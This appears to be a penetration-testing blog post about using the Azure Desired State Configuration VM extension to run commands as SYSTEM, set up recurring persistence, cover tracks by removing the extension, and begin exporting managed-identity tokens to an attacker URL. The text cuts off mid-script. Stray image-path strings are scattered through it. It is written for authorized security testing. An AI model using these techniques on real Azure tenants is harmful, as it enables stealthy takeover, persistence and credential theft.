In a previous blog, I described how anyone with the Contributor role in an Azure subscription can run arbitrary scripts on the VMs of that subscription. That blog utilizes the Run Command feature and the Custom Script Extension to execute the payloads. This blog will explore how pentesters can also use the Desired State Configuration (DSC) VM extension to run arbitrary commands, with built-in functionality for recurring commands and persistence.

Desired State Configuration in Azure

PowerShell Desired State Configuration (DSC) is existing Windows functionality that allows system administrators to declare how a computer should be configured with configuration scripts and resources. This may include installing/runningservices, local user management, downloading files or running PowerShell scripts. Once enabled, the Local Configuration Manager (LCM) subsystem will automatically and continually monitor the computer’s current configuration, and perform any actions required to apply the desired configuration.

More recently, Microsoft has brought first-class support for DSC into Azure. This allows Azure administrators to utilize DSC’s powerful functionality to configure and monitor their Azure VMs at the cloud scale. Azure offers two methods of using DSC: Azure Automation State Configuration and theDSC VM extension.

Azure Automation State Configuration vs Desired State Configuration VM Extension

Azure Automation State Configuration allows administrators to use an Azure Automation Account to deploy DSC at scale across their cloud VMs and on-premise systems. This feature is integrated with the Azure Portal and provides a UI to deploy configurations and monitor the systems’ compliance. The DSC artifacts are deployed via a “pull server.” The systems will periodically report their configuration to the Automation Account and retrieve the latest configurations.

While this is very practical functionality, it’s not our best option as pentesters for a couple reasons. First, it’s not a stealthy technique for controlling the target systems. Cloud administrators can easily observe usage of the Automation State Configuration feature in the portal.  Second, when the target systems are updated to pull their DSC artifacts from our Automation Account, this may overwrite legitimate usage of the DSC feature. The target systems may lose their existing configuration, and this may interrupt daily operations.

We’ll avoid these problems by using the DSC VM extension instead. When using the VM extension, DSC artifacts are pushed to individually targeted systems, instead of being pulled from a centralized Automation Account. When deploying artifacts, we can also check to see if DSC is already in use on the system, and if so, stop the deployment. This prevents us from overwriting existing, legitimate configurations. Lastly, the VM extension can be quickly removed afterthe DSC artifacts are pushed, making this much more difficult to detect in the Azure portal. The VM extension provides more targeted, fine-grain control and allows us to remain under the radar.

Running Arbitrary Scripts Through the Desired State Configuration VM Extension

While notexactly the intended use, plain PowerShell scripts can be run directly through the DSC VM extension. Other features such as RunCommand and the Custom Script extension are better suited for this, but it is interesting to see that it works (despite not actually providing any configuration). Let’s considering the following PowerShell script:

echo "Hello from DSC. I'm running as $(whoami)" > C:dsc_hello.txt


To setup the script as a DSC, we’ll run the following commands from our workstation:

  1. The Publish-AzVMDscConfiguration cmdlet will compress and upload the script to a storage account of our choice.
  2. The Set-AzVMDscExtension cmdlet will add the DSC VM extension to the “jk-dsc-testing” VM. Once the extension isadded, it will automatically download the script from the storage account and run it.
PS C:> Publish-AzVMDscConfiguration -ConfigurationPath .DSCHello.ps1 -ResourceGroupName tester -StorageAccountName <your-storage-account-name>

PS C:> Set-AzVMDscExtension -VMName jk-dsc-testing -ConfigurationArchive "" -ConfigurationName "DSCHello" -ResourceGroupName tester -ArchiveStorageAccountName <your-storage-account-name> -Version "2.83"
Set-AzVMDscExtension : Long running operation failed with status 'Failed'. Additional Info:'VM has reported a failure when processing extension 'Microsoft.Powershell.DSC'. [TRUNCATED]

After about aminute, the second Set-AzVMDscExtension command returns an error. This is expected because our DSCHello.ps1 script does not actually include a valid DSC configuration. Despite this error, our script was executed on the target VM. We can confirm this by using the RunCommand feature to check the contents of the output file: C:dsc_hello.txt.

RunCommand Output
RunCommand Output

The output within the file confirms that the script was executed successfully, despite the error returned by the Set-AzVMDscExtension command. It also confirms that our script is running as SYSTEM on the VM.

While it’s nice to know that the DSC VM extension can be used for one-off scripts, there are better tools for this task at our disposal. We’ll instead focus on utilizing the power of DSC for our more common tasks as pentesters.

Practical DSC Extension Usage

While the above process does result in privileged script execution, it doesn’t maximize the functionality offered by the DSC VM extension. We can improve upon this in several ways.Using Actual DSC Configuration Artifacts

The simplest improvement is to add an actual configuration to ourscript. There are many different types of DSC Resources that can be used within a DSC configuration. The most versatile is the Script Resource which we’ll use to wrap whatever functionality we’d like to deploy. If we were rewriting the above example to use a Script Resource, that would appear in our DSC script as:

Configuration DSCHello
    Node localhost
        Script ScriptExample
            SetScript = {
                echo "Hello from DSC. I'm running as $(whoami)" > C:dsc_hello.txt
            TestScript = {
                return Test-Path C:dsc_hello.txt
            GetScript = { @{ Result = (Get-Content C:dsc_hello.txt) } }

DSCHello.ps1 (with Configuration and ScriptResource)

When deployed via the DSC VM extension with the previous commands, the Set-AzVMDscExtension command will now complete successfully because we’ve provided a well-formed DSC configuration. We’ve also provided a TestScript which will test for the presence of the C:dsc_hello.txt output file.

Automatic Recurring Execution

One of the key features of DSC is the capability to detect if a system has drifted from its desired state, and to automatically apply any necessary configuration changes. We can use this built-in functionality to automatically run our commands as many times as we’d like. We’ll see some additional examples of this later in the post, but for now we’ll continue the example from above. Note the TestScript ScriptBlock in the previous code segment. If the C:dsc_hello.txt file is ever removed from the file system after the initial execution, the TestScript command will return false, and the SetScript command will be run again.While this capability is built into DSC, it’s not enabled by default. But we can enable it while deploying our DSC artifacts to the target system. To do that, we’ll prepend the following commands to our growing DSCHello.ps1 script.

Configuration DscMetaConfigs
    Node localhost
             RefreshFrequencyMins           = 30
             RefreshMode                    = 'PUSH'
             ConfigurationMode              = 'ApplyAndAutoCorrect'
             AllowModuleOverwrite           = $False
             RebootNodeIfNeeded             = $False
             ActionAfterReboot              = 'ContinueConfiguration'
             ConfigurationModeFrequencyMins = 15
DscMetaConfigs -Output .output
Set-DscLocalConfigurationManager -Path .output

Commands to be added to DSCHello.ps1 to enable automatic recurring execution.

These commands will update the DSC Local Configuration Manager (LCM), which is the subsystem responsible for keeping the system in its configured desired state. The key update is changing the “ConfigurationMode” value to “ApplyAndAutoCorrect” to ensure our SetScript commands are executed whenever the TestScript block returns false. After this update, the LCM will check the system’s configuration every 15 minutes and applies any necessary configurations. Unfortunately, this is the most frequent schedule that can be configured.

Polite Execution:Checking if DSC is Already in Use

As mentioned earlier, we wouldn’t want to make these DSC/LCM updates if the target system is already using DSC for a legitimate purpose. In a standard pentest, this has too high of a risk of disrupting normal functionality. And in a red team scenario, this change could lead to more rapid detection by the blue team.

To avoid this, we can update our script to check if the system currently has any DSC configuration already applied. By prepending the following commands to our ever-growing DSCHello.ps1 file, the script will first check if there’s an existing configuration, and exit if any exists.

$type = Get-DscConfigurationStatus | select -ExpandProperty Type
if ( $? -and ($type -ne 'Initial'))

Commands to be added to DSCHello.ps1 to exit if DSC is already in use.

With this addition, our DSCHello.ps1 file is complete and ready for deployment. It will confirm that the DSC feature is not already in-use on the target system. It will configure the LCM to automatically re-execute our commands as needed. And it will complete successfully because it provides a well-formed DSC configuration and resource. The complete version of this example script is available for review here.

Covering Tracks: Removing the DSC VM Extension

After deploying the DSC VM extension, it can be viewed in the Azure Portal under the target VM’s “Extensions” blade.Azure Persistence with Desired State Configurations

If you click the “View detailed status” link, there are execution details, including some of the script output. To cover our tracks, we can eliminate this information by simply removing the DSC VM extension itself using the Remove-AzVMDscExtension cmdlet.  This removes the extension information from the portal and deletes the deployment artifacts from the target VM. However, is does leave behind the existing logs in the C:WindowsAzureLogsPluginsMicrosoft.Powershell.DSC<VERSION> directory.

Fortunately for us though, this does not remove the deployed DSC configuration from the target VM. If configured as a recurring or persistent task, it will continue to run on the set schedule. We’re free to clean up the extension and artifacts, and still retain our functionality.

Deploying Pre-Configured DSC ArtifactsThe official Set-AzVMDscExtension cmdlet is very useful but it assumes that the DSC artifacts to be deployed were uploaded to a caller-controlled storage account using the Publish-AzVMDscConfiguration command. While this is generally true for its intended usage, this is not ideal for pentesters. To use the Set-AzVMDscExtension command against a targeted VM in an engagement, we would have to also upload the DSC artifacts into a storage account within the same Azure subscription using thePublish-AzVMDscConfiguration command. This leaves behind additional artifacts which may be detected by the blue team, and reduces re-usability of our artifacts.

As a workaround, I’ve added the Invoke-DscVmExtension function to the MicroBurst framework. This is a reimplementation of the Set-AzVMDscExtension cmdet which instead deploys DSC artifacts hosted at any publicly accessible URL. The example DSC artifacts used throughout this blog are hosted in the MicroBurst GitHub repo and available for use. We can use the Invoke-DscVMExtension function to deploy the DSC VM extension and download our pre-made artifacts from there. This greatly increases the reusability of these artifacts.

Additionally, the Invoke-DscVmExtension function automatically removes the DSC VM extension from the target system after the deployment. This results in a stealthier overall deployment.

We can use this single function to do the following:

  1. Add the DSC VM extension to a target VM which performs the following:
    1. Download the publicly hosted, reusable artifacts from an input URL.
    2. Check if any DSC configurations are already in use.
    3. Update the Local Configuration Manager to automatically run our deployed configuration every 15 minutes.
    4. Run the provided script as SYSTEM.
  2. Remove the DSC VM extension to cover our tracks in the portal.

And here’s how it looks in action:

PS C: > Invoke-DscVmExtension -Name jk-dsc-testing -ResourceGroupName tester  -ConfigurationArchiveURL ""
Deploying DSC to VM: jk-dsc-testing
Deployment Successful: True
Deleting DSC extension from VM: jk-dsc-testing
Removal Successful: True

Execution of Invoke-DscVmExtension function

Example 1: A Recurring Task to Export Managed Identity Tokens

An Azure VM can be directly assigned permissions to other Azure resources through the VM’s managedidentity. NetSPI’s Karl Fosaaen has thoroughly explored how attackers and pentesters can exploit this in his previous blogs. If you’d like a deeper dive into managed identities, I recommend his in-depth review here. In that blog, Karl describes how anyone with command execution on the VM can obtain an access token for that VM’s managed identity by sending an HTTP request to the Azure Metadata Service URL.

Additionally, NetSPI’s Josh Magri explored in his blog post how bearer tokens can be passed to the Azure REST APIs to perform actions authorized as that identity. This provides a straightforward mechanism for enumerating the target subscription and movinglaterally/vertically.

Let’s combine these concepts with the DSC VM extension. We’ll deploy a DSC configuration which will execute our commands. Our configuration will send a request to the Azure Metadata Service from the target VM and obtain the bearer token for that VM’s managed identity. Oncewe’ve obtained the bearer token, we’ll exfiltrate it from the server by sending an HTTP POST request to a URL of our choice.

The full code for the script is available for review here, but the core DSC configuration is included below:

Configuration ExportManagedIdentityToken


  Import-DscResource -ModuleName 'PSDesiredStateConfiguration'

  Node localhost
    Script ScriptExample
      SetScript = {
